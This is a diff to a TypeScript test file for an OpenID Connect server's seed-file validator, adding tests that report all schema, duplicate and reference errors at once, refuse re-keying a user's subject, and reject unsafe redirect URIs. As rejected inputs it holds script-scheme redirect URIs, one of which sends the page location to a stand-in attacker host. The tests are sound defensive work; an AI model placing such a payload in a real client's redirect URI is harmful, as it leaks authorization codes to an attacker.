@@ -108,7 +108,7 @@ describe('seed file', () => {
         users: [{ subjectId: 's', username: 'u', password: 7 }],
       }),
     )
-    // In the schema's field order.
+    // In the schema's field order, then duplicate keys.
     expect(err.problems).toEqual([
       'identityResources[0]: must be a scope name or an object {name, displayName, description, claims, enabled}',
       'clients[0].allowedGrantTypes[1]: must be one of client_credentials, password, authorization_code, refresh_token, urn:openid:params:grant-type:ciba, urn:ietf:params:oauth:grant-type:device_code, urn:ietf:params:oauth:grant-type:token-exchange, urn:ietf:params:oauth:grant-type:jwt-bearer or an absolute URI',
@@ -117,12 +117,15 @@ describe('seed file', () => {
       'clients[1]: Unrecognized key: "accesTokenType"',
       'clients[2].jwks.keys[0].kty: Invalid option: expected one of "RSA"|"EC"|"OKP"',
       'users[0].password: Invalid input: expected string, received number',
+      // Found with the schema's problems, not on the next run.
+      'clients[2].clientId: duplicate client "ok"',
     ])
     expect(err.message.split('\n')[0]).toBe('invalid seed file:')
     expect(await dump(t.db)).toEqual(before)
   })
 
-  it('rejects duplicates and dangling references without writing anything', async () => {
+  it('rejects duplicates and dangling references in one go, without writing anything', async () => {
+    // Reported one kind per run, a file took as many runs to fix as it had kinds of problem.
     const before = await dump(t.db)
     const err = await seedError(
       applySeed(t.db, {
@@ -135,21 +138,82 @@ describe('seed file', () => {
         users: [{ subjectId: 'alice-0001', username: 'not-alice' }],
       }),
     )
-    expect(err.problems).toEqual(['clients[1].clientId: duplicate client "a"'])
-    const err2 = await seedError(
-      applySeed(t.db, {
-        apiScopes: [{ name: 'fresh.scope' }],
-        apiResources: [{ name: 'x-api', scopes: ['fresh.scope', 'orders.read', 'missing.scope'] }],
-        clients: [{ clientId: 'a', allowedScopes: ['openid', 'fresh.scope', 'nope'] }],
-        users: [{ subjectId: 'alice-0001', username: 'not-alice' }],
-      }),
-    )
-    expect(err2.problems).toEqual([
+    expect(err.problems).toEqual([
+      'clients[1].clientId: duplicate client "a"',
       'apiResources[0].scopes[2]: "missing.scope" is not an api scope',
       'clients[0].allowedScopes[2]: "nope" is neither an api scope nor an identity resource',
       'users[0].subjectId: "alice-0001" already belongs to user "alice"',
     ])
     expect(await dump(t.db)).toEqual(before)
+  })
+
+  it('reports every problem of a file at once, each with its JSON path: schema, duplicates, references, stored users', async () => {
+    const before = await dump(t.db)
+    const err = await seedError(
+      applySeed(t.db, {
+        apiScopes: [{ name: 'fresh.scope', enabled: 'yes' }],
+        clients: [
+          // A wrong type used to hide the checks that look at the whole client (origins, URIs).
+          { clientId: 'web', enabled: 'yes', allowedGrantTypes: ['authorization_code'], allowedScopes: ['openid', 'nope'],
+            redirectUris: ['javascript:alert(1)'], allowedCorsOrigins: ['https://web.example/'] },
+          { clientId: 'web', accesTokenType: 'jwt', allowedScopes: ['fresh.scope'] },
+          { clientId: 'code', allowedGrantTypes: ['authorization_code'], backChannelLogoutUri: 'http://code.example/bcl', requireConsent: 1 },
+        ],
+        users: [
+          { subjectId: 'alice-1', username: 'alice', password: 7 },
+          { subjectId: 'alice-0001', username: 'mallory' },
+          { subjectId: 'bob-1', username: 'mallory' },
+        ],
+      }),
+    )
+    expect(err.problems).toEqual([
+      // The schema, in its field order.
+      'apiScopes[0].enabled: Invalid input: expected boolean, received string',
+      'clients[0].enabled: Invalid input: expected boolean, received string',
+      'clients[0].redirectUris[0]: client web: scheme "javascript:" is not allowed: use https, http only for localhost, 127.0.0.1 or [::1], or a native app\'s private-use scheme named after a domain it controls, such as com.example.app:/callback (RFC 8252 §7)',
+      'clients[0].allowedCorsOrigins[0]: client web: "https://web.example/" is not an origin (scheme, host and optional port, as https://app.example.com: no path, no trailing slash)',
+      'clients[1]: Unrecognized key: "accesTokenType"',
+      'clients[2].requireConsent: Invalid input: expected boolean, received number',
+      'clients[2].redirectUris: client code: allowedGrantTypes has authorization_code, which needs at least one redirect URI',
+      'clients[2].backChannelLogoutUri: client code: backChannelLogoutUri "http://code.example/bcl" must use https (http only for localhost)',
+      'users[0].password: Invalid input: expected string, received number',
+      // Duplicate keys.
+      'clients[1].clientId: duplicate client "web"',
+      'users[2].username: duplicate username "mallory"',
+      // References, to the file or to what is stored.
+      'clients[0].allowedScopes[1]: "nope" is neither an api scope nor an identity resource',
+      'users[0].subjectId: user "alice" has subject "alice-0001", and a subject never changes (OpenID Connect Core §2): write "alice-0001" here, or another username for another user',
+      'users[1].subjectId: "alice-0001" already belongs to user "alice"',
+    ])
+    expect(await dump(t.db)).toEqual(before)
+  })
+
+  it('never moves a username to another subject: the file is refused, naming the user', async () => {
+    // Re-keying alice would leave her tokens, consents and sessions with a subject id that no user
+    // holds any more, free to be given to someone else, who would then inherit them; and every app
+    // that knows her by sub would meet a stranger. docs/connect-an-app.md's user, applied on top of
+    // the demo seed, did exactly that.
+    const before = await dump(t.db)
+    const err = await seedError(
+      applySeed(t.db, {
+        identityResources: ['openid', 'profile', 'email', 'offline_access'],
+        users: [
+          { subjectId: 'alice-1', username: 'alice', password: 'alice-pw', claims: { name: 'Alice Example', email: 'alice@example.com' } },
+          { subjectId: 'carol-1', username: 'carol' },
+        ],
+      }),
+    )
+    expect(err.problems).toEqual([
+      'users[0].subjectId: user "alice" has subject "alice-0001", and a subject never changes (OpenID Connect Core §2): write "alice-0001" here, or another username for another user',
+    ])
+    expect(await dump(t.db)).toEqual(before)
+    expect((await createPgUserStore(t.db).findByUsername('alice'))?.subjectId).toBe('alice-0001')
+    expect(await createPgUserStore(t.db).findBySubjectId('alice-1')).toBeUndefined()
+
+    // A free username is another user, with its own subject.
+    await applySeed(t.db, { users: [{ subjectId: 'alice-1', username: 'alice.2' }] })
+    expect((await createPgUserStore(t.db).findByUsername('alice.2'))?.subjectId).toBe('alice-1')
+    expect((await createPgUserStore(t.db).findByUsername('alice'))?.subjectId).toBe('alice-0001')
   })
 
   it('stores an identity resource description, changes it, and keeps updated_at when nothing changed', async () => {
@@ -202,5 +266,32 @@ describe('seed file', () => {
     const bad = join(dir, 'bad.json')
     await writeFile(bad, '{"client": []}')
     expect((await seedError(applySeedFile(t.db, bad))).message).toBe(`invalid seed file ${bad}:\n  (root): Unrecognized key: "client"`)
+  })
+
+  it('refuses redirect URIs that would hand the code to script or to nobody, all at once, storing nothing', async () => {
+    // The rules themselves: redirect-uris.unit.test.ts.
+    const notAllowed = (scheme: string) =>
+      `scheme "${scheme}:" is not allowed: use https, http only for localhost, 127.0.0.1 or [::1], or a native app's private-use scheme named after a domain it controls, such as com.example.app:/callback (RFC 8252 §7)`
+    const before = await dump(t.db)
+    const err = await seedError(
+      applySeed(t.db, {
+        clients: [
+          { clientId: 'ok', allowedGrantTypes: ['authorization_code'], redirectUris: ['https://ok.example/cb'] },
+          {
+            clientId: 'bad', allowedGrantTypes: ['authorization_code'],
+            redirectUris: ['https://bad.example/cb', 'javascript:fetch("//evil.example/"+location)', 'localhost:3000/cb'],
+            postLogoutRedirectUris: ['data:text/html,bye'],
+          },
+          { clientId: 'nocb', allowedGrantTypes: ['authorization_code', 'refresh_token'] },
+        ],
+      }),
+    )
+    expect(err.problems).toEqual([
+      `clients[1].redirectUris[1]: client bad: ${notAllowed('javascript')}`,
+      `clients[1].redirectUris[2]: client bad: ${notAllowed('localhost')}`,
+      `clients[1].postLogoutRedirectUris[0]: client bad: ${notAllowed('data')}`,
+      'clients[2].redirectUris: client nocb: allowedGrantTypes has authorization_code, which needs at least one redirect URI',
+    ])
+    expect(await dump(t.db)).toEqual(before)
   })
 })
